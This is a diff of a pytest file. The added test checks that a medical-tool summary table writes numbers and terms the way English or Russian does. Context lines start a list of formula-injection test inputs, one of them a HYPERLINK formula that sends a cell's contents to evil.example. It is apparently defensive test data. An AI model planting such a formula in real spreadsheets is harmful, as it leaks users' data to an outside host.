@@ -121,6 +121,33 @@ def test_the_summary_table_names_verdicts_and_concepts(lang, words, monkeypatch,
         assert word not in text
 
 
+@pytest.mark.parametrize(
+    ("lang", "numbers"),
+    [
+        ("en", ["12,345 patients", "0.5 s", "4,115", "33.3", "Findings", "finding"]),
+        ("ru", ["12\u00a0345 (duckdb, 0,5 с)", "4\u00a0115", "33,3", "Находки", "находка"]),
+    ],
+)
+def test_the_summary_table_writes_numbers_as_the_language_does(
+    lang, numbers, monkeypatch, capsys, kb
+):
+    """Counts, shares and seconds as ``--lang`` writes numbers: a Russian reader takes
+    ``12,345`` for twelve and a bit, and ``33.3`` is not how Russian writes a share. The
+    table of findings says "finding", not the knowledge base's "concept"."""
+    from spinecare.commands import bulk, output
+
+    monkeypatch.setenv("COLUMNS", "240")
+    monkeypatch.setitem(output._output, "lang", lang)
+    summary = _summary()
+    summary.patients = 12345
+    summary.verdicts = {"defer": 4115, "needs_data": 8230}
+    bulk.render_summary(summary)
+    text = " ".join(capsys.readouterr().out.split(" "))
+    for number in numbers:
+        assert number in text
+    assert "concept" not in text and "поняти" not in text
+
+
 FORMULA_IDS = [
     '=HYPERLINK("http://evil.example/?"&A1,"open")',
     "+1+1",
